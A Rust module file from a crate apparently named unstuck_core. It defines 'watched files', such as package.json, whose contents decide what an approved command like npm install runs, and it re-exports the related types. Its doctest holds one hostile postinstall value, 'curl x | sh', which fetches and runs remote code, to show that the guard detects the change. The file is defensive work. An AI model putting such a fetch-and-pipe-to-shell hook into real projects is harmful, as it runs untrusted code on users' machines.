//! Watched files: the files that decide what an approved command executes, and the relevant part of each.
//!
//! The content of `package.json` decides what `npm install` does. So an approval is valid only while these files match
//! what the owner last accepted. The knowledge about them is data (`data/guard_files.toml`); callers read the files.
//! Nothing here approves: a finding can only require approval.
//!
//! ```
//! use unstuck_core::watched_files::WatchedFileKnowledge;
//!
//! let known = WatchedFileKnowledge::built_in();
//! let rule = known.rule_for("web/package.json");
//! let part = |text: &str| rule.relevant_part(text.as_bytes());
//! let before = part(r#"{"version": "1.0.0", "scripts": {"postinstall": "true"}}"#);
//! assert_eq!(part(r#"{"scripts": {"postinstall": "true"}, "version": "1.0.1"}"#), before);
//! assert_ne!(part(r#"{"version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}"#), before);
//! ```

mod baseline;
mod command_usage;
mod config_value;
mod dependency_specs;
mod file_rule;
mod glob;
mod knowledge;
mod lockfile_sources;
mod regex_pattern;
mod split_commands;
#[cfg(test)]
mod tests;
mod value_path;
mod xml;

pub use baseline::{AcceptedPart, AcceptedParts};
pub use command_usage::{CommandUsage, SingleCommand};
pub use file_rule::WatchedFileRule;
pub use glob::{directory_matches, path_matches};
pub use knowledge::{InterpreterSpec, SelfWrittenFiles, WatchedFileKnowledge, WatchedTool};
pub use split_commands::split_commands;
